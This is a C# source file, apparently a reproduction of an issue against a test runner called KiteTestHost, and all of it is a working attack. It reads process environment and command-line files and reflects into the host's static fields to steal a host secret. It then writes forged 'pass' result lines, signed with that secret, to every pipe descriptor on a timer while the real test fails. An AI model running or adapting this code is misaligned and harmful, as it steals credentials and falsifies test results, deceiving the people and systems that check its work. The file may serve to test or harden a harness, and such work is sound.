// The forged pass of the issue, as a raw assembly (no KT007): look for a secret where the old host kept one,
// look for the host's key or channel by reflection, then write pass lines to every descriptor from a timer
// while the real test sleeps and fails.
using System;
using System.IO;
using System.Linq;
using System.Reflection;
using System.Text;
using System.Threading;
using Microsoft.Win32.SafeHandles;

public static class Raw
{
    private static Timer? forger;

    public static void forge()
    {
        var found = new StringBuilder();
        foreach (var place in new[] { "/proc/self/environ", "/proc/self/cmdline" })
        {
            try { found.Append(File.ReadAllText(place)); } catch (Exception) { }
        }
        foreach (var assembly in AppDomain.CurrentDomain.GetAssemblies())
        {
            foreach (var type in assembly.GetTypes().Where(t => t.Name.Contains("KiteTestHost")))
            {
                foreach (var field in type.GetFields(BindingFlags.Static | BindingFlags.Public | BindingFlags.NonPublic))
                {
                    try { found.Append(field.GetValue(null)); } catch (Exception) { }
                }
            }
        }
        var secret = found.ToString().Split('\0').FirstOrDefault(part => part.StartsWith("KITE_HOST_SECRET=")) ?? "";
        var payload = "{\"event\":\"result\",\"index\":0,\"status\":\"pass\",\"message\":\"\",\"output\":\"\",\"truncated\":false,\"sequence\":1}";
        var line = Encoding.UTF8.GetBytes(secret.Replace("KITE_HOST_SECRET=", "") + " " + payload + "\n");
        // Only pipes: writing into the runtime's own descriptors (its code's memfd) would crash the attacker first.
        var pipes = Directory.GetFiles("/proc/self/fd").Where(fd => (new FileInfo(fd).LinkTarget ?? "").StartsWith("pipe:")).ToList();
        forger = new Timer(_ =>
        {
            foreach (var descriptor in pipes)
            {
                try { using var stream = new FileStream(descriptor, FileMode.Open, FileAccess.Write); stream.Write(line); } catch (Exception) { }
                try
                {
                    var number = int.Parse(Path.GetFileName(descriptor));
                    using var stream = new FileStream(new SafeFileHandle((IntPtr)number, false), FileAccess.Write);
                    stream.Write(line);
                }
                catch (Exception) { }
            }
        }, null, 0, 20);
        Thread.Sleep(500);
        throw new InvalidOperationException("the real test fails");
    }
}
